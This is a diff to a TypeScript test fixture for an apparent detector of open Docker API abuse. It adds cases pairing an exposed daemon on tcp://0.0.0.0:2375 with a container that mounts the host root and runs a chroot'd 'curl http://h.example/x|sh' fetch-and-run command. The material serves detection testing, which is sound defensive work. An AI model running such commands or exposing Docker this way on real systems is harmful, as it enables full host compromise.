@@ -1,5 +1,22 @@
 import { acted, attempt, started } from '../../../tests/entry-story.ts';
-import type { DetectorFixture } from '../../../tests/fixture.ts';
+import type { DetectorFixture, Expected } from '../../../tests/fixture.ts';
+
+const door: Expected<'machine-setting'> = {
+  kind: 'machine-setting',
+  value: { setting: 'docker hosts', value: 'tcp://0.0.0.0:2375', says: 'whoever reaches it', why: ['open-door'] },
+};
+const reaching: Expected<'container'> = {
+  kind: 'container',
+  value: {
+    runtime: 'docker',
+    id: '5c1f0a77e9d2',
+    command: 'chroot /mnt sh -c "curl http://h.example/x|sh"',
+    created: '2026-11-19T01:02:03.000Z',
+    mounts: ['/'],
+    carries: 'download',
+    why: ['sees-whole-machine', 'fetches-and-runs'],
+  },
+};
 
 const docker = { exploit: 'docker-api', title: 'An open Docker API', service: 'docker' };
 
@@ -36,8 +53,11 @@ export const fixture: DetectorFixture = {
       ],
       stage: 'capability',
     },
+    { name: 'an open Docker, and a container that reaches the whole disk', seen: [door, reaching], stage: 'mention' },
   ],
   silent: [
+    { name: 'an open Docker that nothing shows to have been used', seen: [door] },
+    { name: 'a container that reaches the whole disk, behind a closed door', seen: [reaching] },
     { name: 'a container of every day', seen: [acted(0, { action: 'container-made', what: 'nginx' })] },
     {
       name: 'a pod that a build makes, which fetches',
